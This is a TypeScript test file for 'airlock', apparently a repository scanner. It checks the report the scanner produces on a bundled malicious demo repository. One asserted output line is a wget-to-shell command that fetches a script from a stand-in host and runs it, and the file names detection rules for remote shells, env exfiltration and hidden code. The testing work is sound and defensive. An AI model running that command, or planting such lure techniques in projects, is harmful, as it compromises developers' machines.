/**
 * `npm run demo` (the bundled lure): its first lines say why and what to do, each fact is printed
 * once, grouped by file, and no line of a file is printed twice. JSON and SARIF carry the same
 * headline and the merged rules.
 */
import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { describe, it } from 'node:test';
import { runAirlock } from '../helpers/cli.ts';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const DEMO = ['scan', 'examples/take-home-lure', '--fail-on', 'never'];

const TOP_SENTENCE = 'next.config.js hides code 400 columns to the right, behind a run of whitespace, where an editor does not show it.';
const IF_ALREADY_RAN =
  'Already opened, installed or ran it? Run `airlock hunt` now and follow docs/workstation.md ("I think I opened a malicious repository").';

describe('the demo report', () => {
  it('opens with the verdict, why, and what to do if the lure already ran', async () => {
    const r = await runAirlock(DEMO, { cwd: ROOT });
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(
      r.stdout
        .replace(/\d+ ms\b/, '<ms>')
        .split('\n')
        .slice(0, 10),
      [
        'BLOCK  examples/take-home-lure',
        '  Do not open, install or run this repository: it carries malicious code or a',
        '  known indicator.',
        '  9 critical, 2 high, 0 medium, 0 low, 2 info · 12 files · <ms>',
        '  Top reason: next.config.js hides code 400 columns to the right, behind a run',
        '    of whitespace, where an editor does not show it. (code/hidden-code,',
        '    next.config.js:7)',
        '  Already opened, installed or ran it? Run `airlock hunt` now and follow',
        '    docs/workstation.md ("I think I opened a malicious repository").',
        '',
      ],
    );
  });

  it('prints each fact once, grouped by file, the other rules as `also:` lines, and no line of a file twice', async () => {
    const r = await runAirlock(DEMO, { cwd: ROOT });
    const lines = r.stdout.split('\n');
    const findings = lines.slice(lines.findIndex(l => l.startsWith('Findings (')));
    assert.deepEqual(
      findings.filter(l => /^ {2}\S/.test(l) || l.startsWith('    also:')),
      [
        '  .vscode/tasks.json',
        '  CRITICAL autorun/vscode-task-remote-shell  line 8',
        '  CRITICAL autorun/vscode-task-remote-shell  line 9',
        '    also: autorun/vscode-folder-open-task (high, line 9)',
        '  CRITICAL autorun/vscode-task-remote-shell  line 10',
        '  CRITICAL autorun/vscode-task-remote-shell  line 18',
        '    also: autorun/vscode-folder-open-task (high, line 18)',
        '  next.config.js',
        '  CRITICAL code/hidden-code  line 7',
        '    also: autorun/tool-config (medium, line 7)',
        '  package.json',
        '  CRITICAL autorun/npm-lifecycle-script  line 9',
        '  public/fonts/fa-solid-400.woff2',
        '  CRITICAL assets/disguised-script  line 1',
        "    also: ioc/known-indicator (critical, line 2): global['_V'] =",
        '  CRITICAL code/remote-code-execution  line 7',
        '  server/routes/auth.js',
        '  CRITICAL code/env-exfiltration  line 13',
        "    also: ioc/known-indicator (critical, line 13): x-app-request': 'ip-check",
        '    also: code/remote-code-execution (critical, line 14)',
        '  .env',
        '  HIGH     code/encoded-endpoint  line 3',
        '  .vscode/settings.json',
        '  HIGH     autorun/vscode-settings-executable  line 3',
        '  2 info findings hidden; use --verbose or --format json to see them.',
      ],
    );
    // The frame of the three per-OS commands of one task is printed once, each command marked.
    const at = findings.indexOf('       6 |       "label": "eslint-check",');
    assert.deepEqual(
      findings.slice(at, at + 7).map(l => l.slice(0, 12)),
      ['       6 |  ', '       7 |  ', '    >  8 |  ', '    >  9 |  ', '    > 10 |  ', '      11 |  ', '      12 |  '],
    );
    const printed = new Set<string>();
    let file = '';
    for (const l of findings) {
      if (/^ {2}[^\sA-Z]|^ {2}\.|^ {2}[a-z]/.test(l) && !/^ {2}(CRITICAL|HIGH|MEDIUM|LOW|INFO) /.test(l)) file = l.trim();
      const frame = /^ {4}[> ] +(\d+) \| /.exec(l);
      if (!frame) continue;
      const key = `${file}:${frame[1]}`;
      assert.ok(!printed.has(key), `${key} printed twice`);
      printed.add(key);
    }
    assert.ok(printed.size > 40);
    assert.deepEqual(
      lines.filter(l => l.includes('tool-config Next.js') || l.includes('also on')),
      [
        '  dev        tool-config Next.js                                next.config.js:1',
        '             next.config.js (+2 files it loads) · also on build, start',
      ],
    );
  });

  it('fits the terminal stdout is, and 80 columns when it is not one', async () => {
    const wide = await runAirlock(DEMO, { cwd: ROOT, stdoutColumns: 120 });
    const widths = wide.stdout.split('\n').map(l => Array.from(l).length);
    assert.ok(Math.max(...widths) <= 120 && Math.max(...widths) > 80, String(Math.max(...widths)));
    assert.match(wide.stdout, /^ {13}wget -qO- https:\/\/vscode-settings\.example\.invalid\/api\/settings\/linux \| sh$/m);
    const narrow = await runAirlock(DEMO, { cwd: ROOT, stdoutColumns: 10 });
    assert.ok(Math.max(...narrow.stdout.split('\n').map(l => Array.from(l).length)) <= 40);
    const piped = await runAirlock(DEMO, { cwd: ROOT });
    assert.ok(Math.max(...piped.stdout.split('\n').map(l => Array.from(l).length)) <= 80);
  });

  it('JSON and SARIF open with the same headline; SARIF starts with the top reason and lists merged rules as related locations', async () => {
    const json = JSON.parse((await runAirlock([...DEMO, '--format', 'json'], { cwd: ROOT })).stdout) as Record<string, unknown>;
    const headline = {
      text: `BLOCK: ${TOP_SENTENCE} (code/hidden-code, next.config.js:7)`,
      topReason: { sentence: TOP_SENTENCE, ruleId: 'code/hidden-code', location: 'next.config.js:7' },
      ifAlreadyRan: IF_ALREADY_RAN,
    };
    assert.deepEqual(Object.keys(json).slice(0, 2), ['$schema', 'headline']);
    assert.deepEqual(json['headline'], headline);
    const env = (json['findings'] as { ruleId: string; alsoReportedBy?: { ruleId: string; location: { line: number } }[] }[]).find(
      f => f.ruleId === 'code/env-exfiltration',
    );
    assert.deepEqual(
      env?.alsoReportedBy?.map(m => `${m.ruleId}@${m.location.line}`),
      ['ioc/known-indicator@13', 'code/remote-code-execution@14'],
    );

    const sarif = JSON.parse((await runAirlock([...DEMO, '--format', 'sarif'], { cwd: ROOT })).stdout) as {
      runs: {
        properties: Record<string, unknown>;
        results: {
          ruleId: string;
          relatedLocations?: { message?: { text: string }; physicalLocation: { region?: { startLine: number } } }[];
        }[];
      }[];
    };
    const run = sarif.runs[0];
    assert.ok(run);
    assert.deepEqual(Object.keys(run.properties)[0], 'headline');
    assert.deepEqual(run.properties['headline'], headline);
    assert.equal(run.results[0]?.ruleId, 'code/hidden-code');
    assert.equal(run.results.length, 13);
    const merged = run.results.find(x => x.ruleId === 'code/env-exfiltration')?.relatedLocations?.filter(l => l.message);
    assert.deepEqual(
      merged?.map(l => `${l.physicalLocation.region?.startLine} ${l.message?.text.split(':')[0]}`),
      ['13 Also reported by ioc/known-indicator (critical)', '14 Also reported by code/remote-code-execution (critical)'],
    );
  });
});
